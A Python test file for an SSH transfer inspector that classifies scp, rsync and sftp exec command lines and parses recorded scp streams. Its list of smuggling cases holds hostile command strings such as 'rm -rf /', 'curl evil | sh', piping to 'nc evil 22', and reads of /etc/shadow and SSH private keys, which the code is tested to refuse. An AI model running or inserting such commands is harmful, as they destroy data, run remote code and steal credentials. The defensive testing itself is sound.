"""Tests for protocols/ssh/transfer.py: exec command lines as file transfers, the legacy scp stream.

The command lines and streams below were captured from OpenSSH 9.2p1's scp (``-O``) and rsync
(3.2-era option syntax; the capture ran rsync 3.5.0 protocol 32): scp and rsync were pointed at
a fake remote shell (``scp -S PROG``, ``rsync -e PROG``) that logged the remote command and
both directions of the stream while a real ``scp -t``/``scp -f`` ran locally.
"""

from __future__ import annotations

import os
import shutil
import subprocess
import sys
from collections import deque
from pathlib import Path

import pytest
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

from protocols.ssh.transfer import (
    FileTransfer,
    ScpDir,
    ScpDone,
    ScpEnd,
    ScpError,
    ScpFile,
    ScpMessage,
    ScpRejected,
    ScpStream,
    classify,
    normalize_path,
)

# --------------------------------------------------------------------------- classify


def up(tool: str, *paths: str, recursive: bool = False, deletes: bool = False) -> FileTransfer:
    return FileTransfer(tool, "upload", paths, recursive, deletes)  # type: ignore[arg-type]


def down(tool: str, *paths: str, recursive: bool = False, deletes: bool = False) -> FileTransfer:
    return FileTransfer(tool, "download", paths, recursive, deletes)  # type: ignore[arg-type]


# what OpenSSH 9.2's `scp -O ...` asked the remote side to run
REAL_SCP = [
    ("scp -t /tmp/x", up("scp", "/tmp/x")),  # scp a.txt h:/tmp/x
    ("scp -d -t /tmp/dir", up("scp", "/tmp/dir")),  # scp a.txt -dash h:/tmp/dir
    ("scp -r -p -t /tmp", up("scp", "/tmp", recursive=True)),  # scp -r -p src h:/tmp
    ("scp -f /tmp/file", down("scp", "/tmp/file")),  # scp h:/tmp/file .
    ("scp -r -f /tmp/dir", down("scp", "/tmp/dir", recursive=True)),  # scp -r h:/tmp/dir .
    ("scp -v -f -- -file", down("scp", "-file")),  # scp -v h:-file .
    ("scp -t .", up("scp", ".")),  # scp a.txt h:
    ("scp -t -- -dst", up("scp", "-dst")),  # scp a.txt h:-dst
    ("scp -d -f /nonexistent", down("scp", "/nonexistent")),  # scp h:/nonexistent h:/x dl/
    ("scp -r -d -t -- /tmp", up("scp", "/tmp", recursive=True)),
]

# what rsync asked the remote side to run (rsync -e PROG ...)
REAL_RSYNC = [
    ("rsync --server -logDtpre.iLsfxCIvu . /tmp/dst", up("rsync", "/tmp/dst", recursive=True)),  # -a src/ h:/tmp/dst
    ("rsync --server --sender -logDtpre.iLsfxCIvu . /tmp/src/",  # -a h:/tmp/src/ dst
     down("rsync", "/tmp/src/", recursive=True)),
    ("rsync --server --sender -vlogDtprze.iLsfxCIvu . /tmp/src /tmp/src2",  # -avz --delete h:/tmp/src h:/tmp/src2 dst
     down("rsync", "/tmp/src", "/tmp/src2", recursive=True)),
    ("rsync --server -logDtpre.iLsfxCIvu . /tmp/sp\\ ace\\;\\$x",  # -a F 'h:/tmp/sp ace;$x'
     up("rsync", "/tmp/sp ace;$x", recursive=True)),
    ("rsync --server -logDtpre.iLsfxCIvu . .", up("rsync", ".", recursive=True)),  # -a a.txt h:
    ("rsync --server -logDtpre.iLsfxCIvu --log-format=X --bwlimit=100 --partial . /tmp/dst",
     up("rsync", "/tmp/dst", recursive=True)),  # --partial --progress --bwlimit=100 --exclude='*.o'
    ("rsync --server --sender -tre.iLsfxCIvu --remove-source-files . /tmp/src",  # -rt --remove-source-files h:..
     down("rsync", "/tmp/src", recursive=True, deletes=True)),
    ("rsync --server -logDtpre.iLsfxCIvu . ~/x", up("rsync", "~/x", recursive=True)),  # -a a.txt 'h:~/x'
    ("rsync --server -logDtpre.iLsfxCIvu . ./-x", up("rsync", "./-x", recursive=True)),  # -a a.txt h:-x
    ("rsync --server -lHogDtpre.iLsfxCIvu --append . /tmp/dst", up("rsync", "/tmp/dst", recursive=True)),
    ("rsync --server -logDtpre.iLsfxCIvu --delete . /tmp/dst", up("rsync", "/tmp/dst", recursive=True, deletes=True)),
    ("rsync --server -logDtpre.iLsfxCIvu --max-delete=5 --delete-after --delete-excluded --force . /tmp/dst",
     up("rsync", "/tmp/dst", recursive=True, deletes=True)),
    ("rsync --server -logDtprze.iLsfxCIvu --compress-level=3 . /tmp/dst", up("rsync", "/tmp/dst", recursive=True)),
    ("rsync --server -logDtprce.iLsfxCIvu --timeout=5 --size-only --numeric-ids --ignore-existing --existing "
     ". /tmp/dst", up("rsync", "/tmp/dst", recursive=True)),
    ("rsync --server -blogDtpre.iLsfxCIvu --backup-dir /tmp/bk --suffix=.x . /tmp/dst", None),  # writes elsewhere
    ("rsync --server -logDtpre.iLsfxCIvu --temp-dir /tmp/t . /tmp/dst", None),
    ("rsync --server -logDtpre.iLsfxCIvu --partial-dir .p . /tmp/dst", None),
    ("rsync --server -logDtpre.iLsfxCIvu --link-dest /etc . /tmp/dst", None),  # reads /etc
    ("rsync --server -logDtpRe.LsfxCIvu --files-from /etc/list . /tmp/dst", None),
    ("rsync --server -logDtpre.iLsfxCIvu --min-size=1 --max-size=1048576 . /tmp/dst",
     up("rsync", "/tmp/dst", recursive=True)),
    ("rsync --server -logDtpre.iLsfxCIvu --usermap=\\*:a --groupmap=\\*:b . /tmp/dst",
     up("rsync", "/tmp/dst", recursive=True)),
    ("rsync --server -logDtpre.iLsfxCIvu --mkpath . /tmp/dst", up("rsync", "/tmp/dst", recursive=True)),
    ("rsync --server -logDtpre.iLsfxCIvu --log-format=%i . /tmp/dst", up("rsync", "/tmp/dst", recursive=True)),
    ("rsync --server -logDtpre.iLsfxCIvu --iconv=latin1 . /tmp/dst", up("rsync", "/tmp/dst", recursive=True)),
    ("rsync --server -logDtpre.iLsfxCIvu --checksum-choice=md5 --modify-window=1 . /tmp/dst",
     up("rsync", "/tmp/dst", recursive=True)),
    ("rsync --server -logDtpre.iLsfxCIvu --fsync --preallocate --open-noatime . /tmp/dst",
     up("rsync", "/tmp/dst", recursive=True)),
    ("rsync --server -logDtpre.iLsfxCIvu --inplace --write-devices . /tmp/dst",
     up("rsync", "/tmp/dst", recursive=True)),
    ("rsync --server -logDtpre.iLsfxCIvu --ignore-errors --safe-links . /tmp/dst",
     up("rsync", "/tmp/dst", recursive=True)),
    ("rsync --server -logDtprSe.iLsfxCIvu . /tmp/dst", up("rsync", "/tmp/dst", recursive=True)),
    ("rsync --server -lyogDtpre.iLsfxCIvu . /tmp/dst", up("rsync", "/tmp/dst", recursive=True)),
    ("rsync --server -logDtprRe.iLsfxCIvu . /tmp/dst", up("rsync", "/tmp/dst", recursive=True)),
    ("rsync --server -logDtpre.iLsfxCIvu --delay-updates . /tmp/dst", up("rsync", "/tmp/dst", recursive=True)),
    ("rsync --server -logDtpre.iLsfxCIvu --remove-source-files . /tmp/dst", up("rsync", "/tmp/dst", recursive=True)),
    ("rsync --server --sender -logDtpre.iLsfxCIvu --delete-missing-args . /tmp/src/",
     down("rsync", "/tmp/src/", recursive=True)),
    ("rsync --server -logDtpre.iLsfxCIvu --delete-missing-args . /tmp/dst",
     up("rsync", "/tmp/dst", recursive=True, deletes=True)),
    ("rsync --server -unlJWogDtUpre.iLsfxCIvu . /tmp/dst", up("rsync", "/tmp/dst", recursive=True)),
    ("rsync --server -logDtpAXre.iLsfxCIvu --mkpath . /tmp/dst", up("rsync", "/tmp/dst", recursive=True)),
    ("rsync --server --sender -de.LsfxCIvu --list-only . /tmp/", down("rsync", "/tmp/")),  # --list-only h:/tmp/
    ("rsync --server -slogDtpre.iLsfxCIvu", None),  # -s: the paths travel in-band
    ("rsync --server -logDtpre.iLsfxCIvu . /tmp/x y", None),  # --old-args 'h:/tmp/x y': two destinations
    ("rsync --server -logDtpre.iLsfxCIvu . /tmp/a*", None),  # a glob left for the remote shell
]


@pytest.mark.parametrize(("command", "expected"), REAL_SCP + REAL_RSYNC, ids=lambda v: v if isinstance(v, str) else "")
def test_classify_real_command_lines(command: str, expected: FileTransfer | None) -> None:
    assert classify(command) == expected


@pytest.mark.parametrize("command", [
    "sftp-server", "internal-sftp", "/usr/lib/openssh/sftp-server", "/usr/lib/openssh/sftp-server -e -l DEBUG3",
    "/usr/libexec/openssh/sftp-server",
])
def test_classify_sftp_server_is_the_sftp_subsystem(command: str) -> None:
    t = classify(command)
    assert t == FileTransfer("sftp", "both", (), False)
    assert t.ops == ()


SMUGGLING = [
    "scp -t /tmp/x; rm -rf /",
    "scp -t /tmp/x;rm -rf /",
    "scp -t /tmp/x && curl evil | sh",
    "scp -t /tmp/x || id",
    "scp -t /tmp/x | tee /etc/passwd",
    "scp -t /tmp/x & id",
    "scp -f `id`",
    "scp -f $(id)",
    'scp -f "$(id)"',
    'scp -f "`id`"',
    "scp -f $HOME/.ssh/id_rsa",
    "scp -f ${HOME}/x",
    'scp -f "$HOME"',
    "scp -t /tmp/x\nid",
    "scp -t /tmp/x\rid",
    "scp -t /tmp/x > /etc/passwd",
    "scp -t /tmp/x < /etc/shadow",
    "scp -f /etc/shado?",
    "scp -f /etc/*",
    "scp -f /etc/[s]hadow",
    "scp -f /etc/{passwd,shadow}",
    "scp -f ~root/.ssh/id_rsa",
    "scp -f '~'/x",
    "scp -t /tmp/x #comment",
    "(scp -t /tmp/x)",
    "scp -t '/tmp/x",  # unterminated quote
    'scp -t "/tmp/x',
    "scp -t /tmp/x\\",
    "rsync --server -logDtpre.iLsfxCIvu . /tmp/dst; id",
    "rsync --server -logDtpre.iLsfxCIvu . $(id)",
    "rsync --server --sender -logDtpre.iLsfxCIvu . /etc/shad*",
    "rsync --server --sender -logDtpre.iLsfxCIvu . `cat /tmp/list`",
    "sftp-server; id",
    "sftp-server | nc evil 22",
    "internal-sftp && id",
    "FOO=bar scp -t /tmp/x",
    "exec scp -t /tmp/x",
    "env scp -t /tmp/x",
    "sh -c 'scp -t /tmp/x'",
]


@pytest.mark.parametrize("command", SMUGGLING)
def test_classify_refuses_shell_tricks(command: str) -> None:
    assert classify(command) is None


@pytest.mark.parametrize("command", [
    "", "   ", "ls -la", "scp", "scp -t", "scp -f", "scp -t -f /tmp/x", "scp -t /tmp/a /tmp/b", "scp /tmp/a",
    "scp -S /tmp/evil -t /tmp/x", "scp -3 -t /tmp/x", "scp -t -x", "scp -f /tmp/a -r", "scp -t ''",
    "/tmp/evil/scp -t /tmp/x", "./scp -t /tmp/x", "/tmp/rsync --server -logDtpre.iLsfxCIvu . /tmp/dst",
    "rsync -av /tmp/a /tmp/b", "rsync --daemon", "rsync --server --daemon .", "rsync --server . /tmp/dst extra/..",
    "rsync --server -logDtpre.iLsfxCIvu .", "rsync --server -logDtpre.iLsfxCIvu /tmp/dst",
    "rsync --server -logDtpTre.iLsfxCIvu . /tmp/dst", "rsync --server -logDtpre.iL!sfxCIvu . /tmp/dst",
    "rsync --server -B1024 . /tmp/dst", "rsync --server --timeout 5 . /tmp/dst",
    "rsync --server --log-file=/tmp/l . /tmp/dst", "rsync --server --write-batch=/tmp/b . /tmp/dst",
    "rsync --server --read-batch=/tmp/b . /tmp/dst", "rsync --server --config=/tmp/c . /tmp/dst",
    "rsync --server --compare-dest=/etc . /tmp/dst", "rsync --server --copy-dest=/etc . /tmp/dst",
    "rsync --server - . /tmp/dst", "sftp", "/tmp/sftp-server",
])
def test_classify_other_commands_are_not_transfers(command: str) -> None:
    assert classify(command) is None


def test_classify_quoted_paths_are_unquoted() -> None:
    assert classify("scp -t '/tmp/a b;c'") == up("scp", "/tmp/a b;c")
    assert classify('scp -f "/tmp/a b" \'/x y\'') == down("scp", "/tmp/a b", "/x y")
    assert classify("scp -t /tmp/a\\ b\\&c") == up("scp", "/tmp/a b&c")
    assert classify("scp -t '$(id)'") == up("scp", "$(id)")  # single quotes: literal
    assert classify("/usr/bin/scp -rt /srv") == up("scp", "/srv", recursive=True)
    assert classify("scp -t ~") == up("scp", "~")
    assert classify("scp -t 'a~b'") == up("scp", "a~b")
    # bash expands "a=~/x" in an argument; a "~" inside an unquoted word is refused altogether
    assert classify("scp -t a=~/x") is None
    assert classify("scp -t a~b") is None


def test_ops_use_the_sftp_inspectors_words_and_normalisation() -> None:
    assert classify("scp -t /tmp/x").ops == ("write /tmp/x",)
    assert classify("scp -r -f /etc/../root").ops == ("read /root",)
    assert classify("scp -f //etc/shadow").ops == ("read /etc/shadow",)
    assert classify("rsync --server --sender -tre.iLsfxCIvu . a/./b c").ops == ("read a/b", "read c")
    assert classify("rsync --server -logDtpre.iLsfxCIvu --delete . /srv/www/").ops == (
        "write /srv/www", "remove /srv/www")
    assert classify("rsync --server --sender -tre.iLsfxCIvu --remove-source-files . /srv/in").ops == (
        "read /srv/in", "remove /srv/in")
    assert normalize_path("") == "."
    assert normalize_path("///x//y/") == "/x/y"


# --------------------------------------------------------------------------- recorded scp streams

# `scp -O -r -p tree h:/tmp/scratch/cap/dst3`: remote command "scp -r -p -t /tmp/scratch/cap/dst3".
# tree/a.txt (0640, "hello\n"), tree/sub/b.bin (23 bytes that look like a C record),
# tree/sub/empty, tree/sub/deeper/long.txt (300 x "x").
UP_CMD = "scp -r -p -t /tmp/scratch/cap/dst3"
UP_SRC = (
    b"T1700000000 0 1795284294 0\nD0755 0 tree\nT1700000000 0 1795284294 0\nD0755 0 sub\n"
    b"T1700000000 0 1795284294 0\nC0644 23 b.bin\n\x00\x01\x02binary\nC0644 3 fake\n\x00"
    b"T1700000000 0 1795284294 0\nC0644 0 empty\n\x00T1700000000 0 1795284294 0\nD0755 0 deeper\n"
    b"T1700000000 0 1795284294 0\nC0644 300 long.txt\n" + b"x" * 300 + b"\x00E\nE\n"
    b"T1700000000 0 1795284294 0\nC0640 6 a.txt\nhello\n\x00E\n"
)
UP_REP = b"\x00" * 22

# `scp -O -r tree h:/tmp/scratch/cap/dst2` where dst2/tree/sub already existed as a file:
# the sink refuses "D sub", so the source skips everything under sub (and its E).
REFUSED_SRC = b"D0755 0 tree\nD0755 0 sub\nC0640 6 a.txt\nhello\n\x00E\n"
REFUSED_REP = b"\x00\x00\x01scp: /tmp/scratch/cap/dst2/tree/sub: Not a directory\n\x00\x00\x00"

# `scp -O -r h:/tmp/scratch/cap/tree dl/`: remote command "scp -r -f /tmp/scratch/cap/tree";
# here the server is the source and the client answers.
DOWN_SRC = (
    b"D0755 0 tree\nD0755 0 sub\nC0644 23 b.bin\n\x00\x01\x02binary\nC0644 3 fake\n\x00C0644 0 empty\n\x00"
    b"D0755 0 deeper\nC0644 300 long.txt\n" + b"x" * 300 + b"\x00E\nE\nC0640 6 a.txt\nhello\n\x00E\n"
)
DOWN_REP = b"\x00" * 15

# `scp -O h:/nonexistent h:/tmp/scratch/cap/tree/a.txt dl/`, first command "scp -d -f /nonexistent"
MISSING_SRC = b"\x01scp: /nonexistent: No such file or directory\n"
MISSING_REP = b"\x00"


def reply_units(rep: bytes) -> list[bytes]:
    """The sink's stream cut into answers: b"\\0" or an error line."""
    out, i = [], 0
    while i < len(rep):
        if rep[i] == 0:
            out.append(rep[i:i + 1])
            i += 1
        else:
            j = rep.index(b"\n", i) + 1
            out.append(rep[i:j])
            i = j
    return out


def drive(src: bytes, rep: bytes, target: str = "", cuts: list[int] = (), reply_cut: int = 0) -> list:
    """Run a recorded transfer through ScpStream the way the glue would see it arrive.

    The source stream is fed in pieces cut at ``cuts``; each answer of the sink is fed as soon
    as the parser waits for it (split in two at ``reply_cut`` when it is longer).
    """
    s = ScpStream(target)
    units = deque(reply_units(rep))
    events: list = []

    def answer() -> None:
        while units and s.awaiting_reply is not None:
            u = units.popleft()
            k = min(reply_cut, len(u))
            if 0 < k < len(u):
                events.extend(s.reply(u[:k]))
                events.extend(s.reply(u[k:]))
            else:
                events.extend(s.reply(u))

    answer()
    bounds = [0, *sorted(set(c for c in cuts if 0 < c < len(src))), len(src)]
    for a, b in zip(bounds, bounds[1:]):
        events.extend(s.feed(src[a:b]))
        answer()
    assert not units, "answers left over"
    assert s.held_from is None
    s.close()
    return events


T = {"mtime": 1700000000, "atime": 1795284294}


def test_recorded_recursive_upload_with_times() -> None:
    events = drive(UP_SRC, UP_REP, "/tmp/scratch/cap/dst3")
    base = "/tmp/scratch/cap/dst3/tree"
    assert [type(e).__name__ for e in events] == [
        "ScpDir", "ScpDir", "ScpFile", "ScpDone", "ScpFile", "ScpDone", "ScpDir", "ScpFile", "ScpDone",
        "ScpEnd", "ScpEnd", "ScpFile", "ScpDone", "ScpEnd"]
    # the D record's own line: its T record was answered before the D was sent
    assert events[0] == ScpDir(path=base, mode=0o755, **T, start=27, end=UP_SRC.index(b"tree\n") + 5)
    files = [e for e in events if isinstance(e, ScpFile)]
    assert [(f.path, f.size, f.mode, f.mtime, f.atime) for f in files] == [
        (f"{base}/sub/b.bin", 23, 0o644, *T.values()),
        (f"{base}/sub/empty", 0, 0o644, *T.values()),
        (f"{base}/sub/deeper/long.txt", 300, 0o644, *T.values()),
        (f"{base}/a.txt", 6, 0o640, *T.values()),
    ]
    # a file's own line is start..end (the T record before it was answered on its own)
    for f in files:
        assert UP_SRC[f.start:f.end] == f"C{f.mode:04o} {f.size} {f.path.rsplit('/', 1)[1]}\n".encode()
    done = [e for e in events if isinstance(e, ScpDone)]
    assert [(d.path, d.bytes, d.ok) for d in done] == [(f.path, f.size, True) for f in files]
    assert UP_SRC[done[0].start:done[0].end] == b"\x00\x01\x02binary\nC0644 3 fake\n\x00"
    assert UP_SRC[done[3].start:done[3].end] == b"hello\n\x00"
    assert [e.path for e in events if isinstance(e, ScpEnd)] == [f"{base}/sub/deeper", f"{base}/sub", base]
    assert events[-1].end == len(UP_SRC)


def test_recorded_recursive_download() -> None:
    events = drive(DOWN_SRC, DOWN_REP, "/tmp/scratch/cap")
    assert [e.path for e in events if isinstance(e, ScpFile)] == [
        "/tmp/scratch/cap/tree/sub/b.bin", "/tmp/scratch/cap/tree/sub/empty",
        "/tmp/scratch/cap/tree/sub/deeper/long.txt", "/tmp/scratch/cap/tree/a.txt"]
    assert all(e.mtime is None for e in events if isinstance(e, (ScpFile, ScpDir)))


def test_recorded_sink_refusal_skips_the_directory() -> None:
    events = drive(REFUSED_SRC, REFUSED_REP, "/tmp/scratch/cap/dst2")
    assert events == [
        ScpDir(path="/tmp/scratch/cap/dst2/tree", mode=0o755, start=0, end=13),
        ScpDir(path="/tmp/scratch/cap/dst2/tree/sub", mode=0o755, start=13, end=25),
        ScpRejected(what="dir", path="/tmp/scratch/cap/dst2/tree/sub",
                    text="scp: /tmp/scratch/cap/dst2/tree/sub: Not a directory", fatal=False),
        # not "tree/sub/a.txt": the refused directory was never entered
        ScpFile(path="/tmp/scratch/cap/dst2/tree/a.txt", size=6, mode=0o640, start=25, end=39),
        ScpDone(path="/tmp/scratch/cap/dst2/tree/a.txt", bytes=6, start=39, end=46),
        ScpEnd(path="/tmp/scratch/cap/dst2/tree", start=46, end=48),
    ]


def test_recorded_source_error_message() -> None:
    assert drive(MISSING_SRC, MISSING_REP, "/") == [
        ScpMessage(text="scp: /nonexistent: No such file or directory", fatal=False, start=0, end=len(MISSING_SRC))]


RECORDINGS = [(UP_SRC, UP_REP, "/dst"), (DOWN_SRC, DOWN_REP, ""), (REFUSED_SRC, REFUSED_REP, "t"),
              (MISSING_SRC, MISSING_REP, "")]


@settings(max_examples=150, deadline=None)
@given(which=st.sampled_from(range(len(RECORDINGS))), cuts=st.lists(st.integers(0, len(UP_SRC)), max_size=25),
       reply_cut=st.integers(0, 60))
def test_any_split_gives_the_same_events(which: int, cuts: list[int], reply_cut: int) -> None:
    src, rep, target = RECORDINGS[which]
    assert drive(src, rep, target, cuts, reply_cut) == drive(src, rep, target)


def test_byte_by_byte() -> None:
    assert drive(UP_SRC, UP_REP, "/d", list(range(len(UP_SRC))), 1) == drive(UP_SRC, UP_REP, "/d")


# --------------------------------------------------------------------------- generated trees

names = st.text(st.characters(blacklist_characters="/\n\0", blacklist_categories=("Cs",)), min_size=1, max_size=12
                ).filter(lambda n: n not in (".", ".."))


@st.composite
def trees(draw, depth: int = 0) -> list:
    """A directory listing: ("f", name, data, refused) and ("d", name, children, refused) entries."""
    out = []
    for _ in range(draw(st.integers(0, 4 if depth < 3 else 0))):
        if depth < 3 and draw(st.booleans()):
            out.append(("d", draw(names), draw(trees(depth + 1)), draw(st.booleans())))
        else:
            out.append(("f", draw(names), draw(st.binary(max_size=40)), draw(st.booleans())))
    return out


def encode(tree: list, times: bool, prefix: str) -> tuple[bytes, bytes, list[tuple]]:
    """What OpenSSH's source sends and the sink answers for ``tree``, and the expected events.

    Refused entries get an error answer to their C/D record; the source then skips them.
    """
    src, rep, want = bytearray(), bytearray(b"\x00"), []

    def walk(entries: list, parent: str) -> None:
        for kind, name, body, refused in entries:
            path = f"{parent}/{name}" if parent else name
            if times:
                src.extend(b"T1 0 2 0\n")
                rep.extend(b"\x00")
            answer = b"\x01no\n" if refused else b"\x00"
            if kind == "f":
                src.extend(f"C0600 {len(body)} {name}\n".encode())
                rep.extend(answer)
                want.append(("file", path, len(body)))
                if refused:
                    want.append(("rejected", "file", path))
                    continue
                src.extend(body + b"\x00")
                rep.extend(b"\x00")
                want.append(("done", path, len(body)))
            else:
                src.extend(f"D0700 0 {name}\n".encode())
                rep.extend(answer)
                want.append(("dir", path))
                if refused:
                    want.append(("rejected", "dir", path))
                    continue
                walk(body, path)
                src.extend(b"E\n")
                rep.extend(b"\x00")
                want.append(("end", path))

    walk(tree, prefix)
    return bytes(src), bytes(rep), want


def summary(events: list) -> list[tuple]:
    out = []
    for e in events:
        if isinstance(e, ScpFile):
            out.append(("file", e.path, e.size))
        elif isinstance(e, ScpDone):
            out.append(("done", e.path, e.bytes))
        elif isinstance(e, ScpDir):
            out.append(("dir", e.path))
        elif isinstance(e, ScpEnd):
            out.append(("end", e.path))
        elif isinstance(e, ScpRejected):
            out.append(("rejected", e.what, e.path))
    return out


@settings(max_examples=120, deadline=None, suppress_health_check=[HealthCheck.too_slow])
@given(tree=trees(), times=st.booleans(), cuts=st.lists(st.integers(0, 2000), max_size=10))
def test_generated_trees_parse_to_their_files(tree: list, times: bool, cuts: list[int]) -> None:
    src, rep, want = encode(tree, times, "/t")
    assert summary(drive(src, rep, "/t", cuts)) == want


# --------------------------------------------------------------------------- holding a file back


def test_glue_refuses_a_file_before_the_sink_sees_it() -> None:
    """The forwarding loop of ScpStream's docstring, with a sink that accepts all and a policy denying "secret"."""
    # the source's side: "secret" is refused, so the source sends no data for it
    src = b"C0644 5 ok1\nhello\x00C0600 6 secret\nC0644 2 ok2\nhi\x00"
    s = ScpStream("/up")
    to_sink, to_source = bytearray(), bytearray()
    fwd = 0  # source bytes up to here have been dealt with (forwarded or dropped)
    rejected = []
    work = deque(s.reply(b"\x00"))  # the sink's ready byte

    def forward(upto: int) -> None:
        nonlocal fwd
        to_sink.extend(src[fwd:upto])
        fwd = upto

    def drain() -> None:
        while work:
            ev = work.popleft()
            if isinstance(ev, ScpFile):
                forward(ev.start)
                if ev.path == "/up/secret":
                    answer, more = s.refuse('wiregate: blocked by rule "no-secrets"')
                    to_source.extend(answer)
                    nonlocal fwd
                    fwd = ev.end  # dropped: the sink never sees the record
                    work.extend(more)
                else:
                    forward(ev.end)
                    work.extend(s.reply(b"\x00"))  # the sink's answer, relayed back
            elif isinstance(ev, ScpDone):
                forward(ev.end)
                work.extend(s.reply(b"\x00"))
            elif isinstance(ev, ScpRejected):
                rejected.append(ev)

    for a, b in ((0, 7), (7, 30), (30, len(src))):
        work.extend(s.feed(src[a:b]))
        drain()
        forward(s.held_from if s.held_from is not None else s.offset)
    s.close()
    assert bytes(to_sink) == b"C0644 5 ok1\nhello\x00C0644 2 ok2\nhi\x00"
    assert bytes(to_source) == b'\x01wiregate: blocked by rule "no-secrets"\n'
    assert rejected == [ScpRejected(what="file", path="/up/secret", text='wiregate: blocked by rule "no-secrets"',
                                    fatal=False)]


def test_held_from_covers_an_incomplete_record() -> None:
    s = ScpStream()
    s.reply(b"\x00")
    assert s.feed(b"C0644 3 ab") == []
    assert s.held_from == 0
    [ev] = s.feed(b"c\n")
    assert ev == ScpFile(path="abc", size=3, mode=0o644, start=0, end=12)
    assert s.held_from is None  # the record is complete; data waits for the answer, not the parser
    assert s.feed(b"xy") == []
    assert s.held_from == 12  # sent before the sink answered: hold it
    s.reply(b"\x00")
    assert s.held_from is None
    assert s.feed(b"z\x00") == [ScpDone(path="abc", bytes=3, start=12, end=16)]


# --------------------------------------------------------------------------- protocol errors


def ready(target: str = "") -> ScpStream:
    s = ScpStream(target)
    s.reply(b"\x00")
    return s


@pytest.mark.parametrize("record", [
    b"C0644 1 a/b\n", b"C0644 1 .\n", b"C0644 1 ..\n", b"D0755 0 ..\n", b"D0755 0 x/\n", b"C0644 1 \n",
    b"C0644 1 a\0b\n", b"C0944 1 a\n", b"C644 1 a\n", b"C0644 a\n", b"C0644  1 a\n", b"C0644 -1 a\n",
    b"C0644 1\n", b"D0755 5 d\n", b"E\n", b"Ex\n", b"X\n", b"\n", b"T1 0 2\n", b"T1 0 2 1000000\n",
    b"C0644 99999999999999999999 big\n", b"c0644 1 a\n",
])
def test_bad_records_raise(record: bytes) -> None:
    with pytest.raises(ScpError):
        ready().feed(record)


def test_oversized_control_line_raises_before_its_end() -> None:
    s = ready()
    s.feed(b"C0644 1 " + b"n" * 4000)
    with pytest.raises(ScpError, match="longer than 4096"):
        s.feed(b"n" * 200)


def test_a_long_but_allowed_name() -> None:
    name = "n" * 4000
    [ev] = ready().feed(f"C0644 1 {name}\n".encode())
    assert ev.path == name


def test_t_must_precede_c_or_d() -> None:
    s = ready()
    s.feed(b"T1 0 2 0\n")
    s.reply(b"\x00")
    with pytest.raises(ScpError):
        s.feed(b"E\n")


def test_failure_is_sticky() -> None:
    s = ready()
    with pytest.raises(ScpError):
        s.feed(b"Z\n")
    with pytest.raises(ScpError, match="already failed"):
        s.feed(b"C0644 1 a\n")


def test_unsolicited_answer_raises() -> None:
    s = ready()
    with pytest.raises(ScpError, match="no answer was due"):
        s.reply(b"\x00")


def test_source_must_wait_for_the_ready_byte_when_too_much() -> None:
    s = ScpStream(max_pending=100)
    assert s.feed(b"C0644 1 a\n") == []  # held until the sink is ready
    with pytest.raises(ScpError, match="before the sink answered"):
        s.feed(b"x" * 200)


def test_fatal_answer_ends_the_source() -> None:
    s = ready()
    s.feed(b"C0644 1 a\n")
    [rej] = s.reply(b"\x02scp: disk full\n")
    assert rej == ScpRejected(what="file", path="a", text="scp: disk full", fatal=True)
    assert s.finished
    s.close()
    with pytest.raises(ScpError):
        s.feed(b"C0644 1 b\n")


def test_sink_not_ready_ends_the_transfer() -> None:
    s = ScpStream("/x")
    [rej] = s.reply(b"\x01scp: ambiguous target\n")
    assert rej.what == "ready" and s.finished


def test_any_other_answer_byte_is_an_error_message_like_scp_reads_it() -> None:
    s = ready()
    s.feed(b"C0644 1 a\n")
    assert s.reply(b"bash: scp: command not found\n") == [
        ScpRejected(what="file", path="a", text="bash: scp: command not found", fatal=False)]
    assert s.feed(b"C0644 1 b\n")[0].path == "b"  # the source skipped a's data


def test_source_read_error_after_data() -> None:
    s = ready("/d")
    s.feed(b"C0644 2 f\n")
    s.reply(b"\x00")
    assert s.feed(b"ab\x01scp: f: Input/output error\n") == [
        ScpDone(path="/d/f", bytes=2, ok=False, start=10, end=40),
        ScpMessage(text="scp: f: Input/output error", fatal=False, start=12, end=40)]
    assert s.reply(b"\x01scp: /d/f: write error\n") == [
        ScpRejected(what="data", path="/d/f", text="scp: /d/f: write error", fatal=False)]


def test_bad_status_byte_raises() -> None:
    s = ready()
    s.feed(b"C0644 1 f\n")
    s.reply(b"\x00")
    with pytest.raises(ScpError, match="status"):
        s.feed(b"aX")


@pytest.mark.parametrize(("src", "answers"), [
    (b"C0644 5 f\nab", [b"\x00", b"\x00"]),  # inside the data
    (b"C0644 1 f\n", [b"\x00"]),  # before the data
    (b"D0755 0 d\n", [b"\x00", b"\x00"]),  # directory never left
    (b"C0644 1", [b"\x00"]),  # inside a record
    (b"T1 0 2 0\n", [b"\x00", b"\x00"]),  # times without their file
])
def test_close_detects_truncation(src: bytes, answers: list[bytes]) -> None:
    s = ScpStream()
    s.reply(answers[0])
    s.feed(src)
    for a in answers[1:]:
        s.reply(a)
    with pytest.raises(ScpError):
        s.close()


def test_refuse_needs_a_pending_record() -> None:
    s = ready()
    with pytest.raises(ScpError, match="nothing to refuse"):
        s.refuse("no")
    s.feed(b"D0755 0 d\n")
    answer, events = s.refuse("wiregate: blocked\nsecond line")
    assert answer == b"\x01wiregate: blocked second line\n"
    assert events == [ScpRejected(what="dir", path="d", text="wiregate: blocked second line", fatal=False)]
    assert s.depth == 0


# --------------------------------------------------------------------------- against the installed scp

_FAKE_SSH = r'''
import os, subprocess, sys, threading
# scp -S runs this as "ssh": run the remote command here, logging both directions
out = sys.argv[1]
cmd = sys.argv[-1]
open(os.path.join(out, "cmd"), "w").write(cmd)
p = subprocess.Popen(["sh", "-c", cmd], stdin=subprocess.PIPE, stdout=subprocess.PIPE)
def pump():
    with open(os.path.join(out, "src"), "wb") as rec:
        while (b := os.read(0, 65536)):
            rec.write(b)
            p.stdin.write(b)
            p.stdin.flush()
    p.stdin.close()
threading.Thread(target=pump, daemon=True).start()
with open(os.path.join(out, "rep"), "wb") as rec:
    while (b := os.read(p.stdout.fileno(), 65536)):
        rec.write(b)
        os.write(1, b)
sys.exit(p.wait())
'''


def test_live_scp_upload_parses(tmp_path: Path) -> None:
    assert shutil.which("scp"), "OpenSSH's scp client is missing: apt-get install openssh-client"
    tree = tmp_path / "tree"
    (tree / "sub").mkdir(parents=True)
    (tree / "a.txt").write_bytes(b"hello\n")
    (tree / "sub" / "b.bin").write_bytes(b"C0644 3 fake\n\0" * 50)
    dst, rec = tmp_path / "dst", tmp_path / "rec"
    dst.mkdir()
    rec.mkdir()
    fake = tmp_path / "fake_ssh"
